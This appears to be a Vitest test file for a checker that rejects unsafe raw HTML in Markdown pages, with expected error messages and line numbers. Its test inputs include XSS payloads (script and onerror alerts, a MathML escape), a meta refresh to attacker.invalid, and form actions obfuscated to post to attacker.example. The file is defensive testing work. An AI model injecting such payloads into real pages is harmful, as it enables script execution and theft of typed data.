import { describe, expect, it } from "vitest";
import { maxNesting } from "../../src/checks/html.ts";
import { md } from "../../src/markdown/markdown.ts";
import { renderWithLines } from "../../src/markdown/render-lines.ts";
import { htmlProblems, snippets } from "../hostile.ts";

describe("HTML judged as a browser parses it", () => {
  it.each(snippets("html-attacks.md"))("refuses $name", ({ body }) => {
    expect(htmlProblems(body).filter((line) => line.includes(" error: "))).not.toEqual([]);
  });

  it.each(snippets("html-misread.md"))("refuses $name, which other parsers read as other markup", ({ body }) => {
    expect(htmlProblems(body).filter((line) => line.includes(" error: "))).not.toEqual([]);
  });

  it.each(snippets("html-harmless.md"))("lets $name pass", ({ body }) => {
    expect(htmlProblems(body)).toEqual([]);
  });

  it("renders exactly what markdown-it renders, while noting the line each part came from", () => {
    const markdown = md();
    const source = "# Title\n\nSome *text* and <b>bold</b>\nover two lines.\n\n<div>\n<p>raw</p>\n</div>\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n";
    const tokens = markdown.parse(source, {});
    expect(renderWithLines(markdown, tokens).html).toBe(markdown.renderer.render(tokens, markdown.options, {}));
  });

  it("reports a finding at the line and column where the editor wrote it", () => {
    expect(htmlProblems("Intro.\n\n<div>\n<p>fine</p>\n<p onclick=\"x()\">not</p>\n</div>\n")).toEqual([
      "page.md:9:1 error: the <p> has an event handler (onclick=…), which runs code — remove the onclick attribute",
    ]);
    expect(htmlProblems("A line with <span style=\"color:red\">colour</span> in it.\n")).toEqual([
      'page.md:5:13 error: the <span> has a "style" attribute, which pages may not use — remove the style attribute',
    ]);
  });

  it("names where HTML breaks its rules of writing, where the editor wrote it, in words", () => {
    expect(htmlProblems('Some words.\n\n<div>\n<meta http-equiv="refresh" content="0;url=https://attacker.invalid/"\n')).toEqual([
      "page.md:8:1 error: the page ends inside an unfinished tag, which would take in the page's layout after it — finish the tag with >, or remove it",
      "page.md:8:1 error: a <meta> element changes how the page behaves, which pages may not do — remove the <meta>; write the content in Markdown",
    ]);
    expect(htmlProblems("<p>Fish &chips; and <span/>peas</span></p>\n")).toEqual([
      "page.md:5:9 error: an & that starts a character reference HTML does not know, or one not ended with ; — write &amp; for an & in text, and end each reference with ; (as in &nbsp;)",
      "page.md:5:21 error: a tag written as if it closed itself (such as <div/>), which browsers read as an opening tag only and other tools as a closed element — write the element whole, as <div></div>",
    ]);
    expect(htmlProblems('<div title="A"title="B">A</div>\n')).toEqual([
      "page.md:5:15 error: a tag not written as HTML's rules require, which browsers and other tools read differently — write each attribute as name=\"value\", with a space between attributes and nothing else in the tag",
      "page.md:5:20 error: a tag with the same attribute twice, of which browsers and other tools keep different ones — keep one of them",
    ]);
    // Markdown writes its own HTML by the rules, whatever the text: ampersands, angle brackets and quotes included.
    expect(htmlProblems('AT&T, 3 < 4 & "quotes", <notatag and &copy without a semicolon.\n')).toEqual([]);
  });

  it("refuses an element left open, which takes in the layout after the body, naming the outermost", () => {
    expect(htmlProblems('See <a href="https://example.org/">our partner\n')).toEqual([
      "page.md:5:5 error: the <a> opened here is never closed, so it takes in the page's layout after it — close it with </a> where it should end",
    ]);
    expect(htmlProblems("Some <b>bold text\n\nand more.\n")).toEqual([
      "page.md:5:6 error: the <b> opened here is never closed, so it takes in the page's layout after it — close it with </b> where it should end",
    ]);
    expect(htmlProblems("<table><tr><td>x\n")).toEqual([
      "page.md:5:1 error: the <table> opened here is never closed, so it takes in the page's layout after it — close it with </table> where it should end",
    ]);
    // An open <div> or <p> ends where the layout's own elements close it, as browsers read it.
    expect(htmlProblems("<div>\n<p>Left open, and closed by the page.\n")).toEqual([]);
  });

  it("sees inside a <template> and around an <xmp>, which browsers keep inert or as text", () => {
    expect(htmlProblems("<template><p><script>alert(1)</script></p></template>\n")).toEqual([
      "page.md:5:1 error: a <template> element is not allowed in a page — remove the <template>; write the content in Markdown",
      "page.md:5:14 error: a <script> element runs code, which pages may not do — remove the <script>; write the content in Markdown",
    ]);
    expect(htmlProblems("<xmp><script>alert(1)</script></xmp>\n")).toEqual(["page.md:5:1 error: a <xmp> element is not allowed in a page — remove the <xmp>; write the content in Markdown"]);
  });

  it("refuses a text area and a <select>, which parsers read differently, and search attributes only the layouts set", () => {
    expect(htmlProblems('<textarea name="m"><input><img src=x onerror=alert(1)></textarea>\n')).toEqual([
      "page.md:5:1 error: a <textarea> element is not allowed in a page — remove the <textarea>; write the content in Markdown",
    ]);
    expect(htmlProblems('<p data-pagefind-filter="section:Other">Text</p>\n')).toEqual([
      'page.md:5:1 error: the <p> has a "data-pagefind-filter" attribute, which only the site\'s layouts may set — remove the data-pagefind-filter attribute',
    ]);
  });

  it("judges a form by where a browser sends it", () => {
    for (const action of ["/\\\\attacker.example/collect", "https:\\\\attacker.example\\collect", "\t/\t/attacker.example/x", "//attacker.example/x"]) {
      expect(htmlProblems(`<form action="${action}"><button>Send</button></form>\n`)[0], action).toMatch(/^page\.md:5:1 error: the form sends what people type to another website/);
    }
    expect(htmlProblems('<form action="/search/"><button>Search</button></form>\n')).toEqual([]);
  });

  it("reads a page nested 100,000 deep without running out of stack, and refuses nesting deeper than the publishing tools read", () => {
    const refused = `the HTML here puts more than ${maxNesting} elements one inside another, more than any page needs and more than the tools that publish it can read — close each element where it ends (such as </div>), or write the content in Markdown`;
    expect(htmlProblems(`${"<span>".repeat(100_000)}deep\n`)).toEqual([`page.md:5:1 error: ${refused}`]);
    expect(htmlProblems(`<div>\n${"<div>".repeat(maxNesting - 1)}deep enough\n`)).toEqual([]);
  });

  it("sees a <body> or <html> tag whose attributes a browser moves onto the page's own", () => {
    expect(htmlProblems('Text.\n\n<html lang="fr" onclick="alert(2)">\n')).toEqual([
      'page.md:7:1 error: a <html> element is not allowed in a page — remove the <html>; write the content in Markdown',
    ]);
  });

  it("names elements outside the allowed list, and drawings to save as images", () => {
    expect(htmlProblems("<marquee>Hello</marquee>\n")).toEqual(["page.md:5:1 error: a <marquee> element is not allowed in a page — remove the <marquee>; write the content in Markdown"]);
    // MathML that browsers once let HTML escape from: refused whole, whatever a browser makes of it today.
    expect(htmlProblems("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>\n")).toContain(
      "page.md:5:1 error: a <math> element is not allowed in a page — save the drawing as an image in content/images/ and show it with ![what it shows](/images/…)",
    );
    expect(htmlProblems("<svg><circle r=\"4\"/></svg>\n")[0]).toBe(
      "page.md:5:1 error: a <svg> element is not allowed in a page — save the drawing as an image in content/images/ and show it with ![what it shows](/images/…)",
    );
  });
});
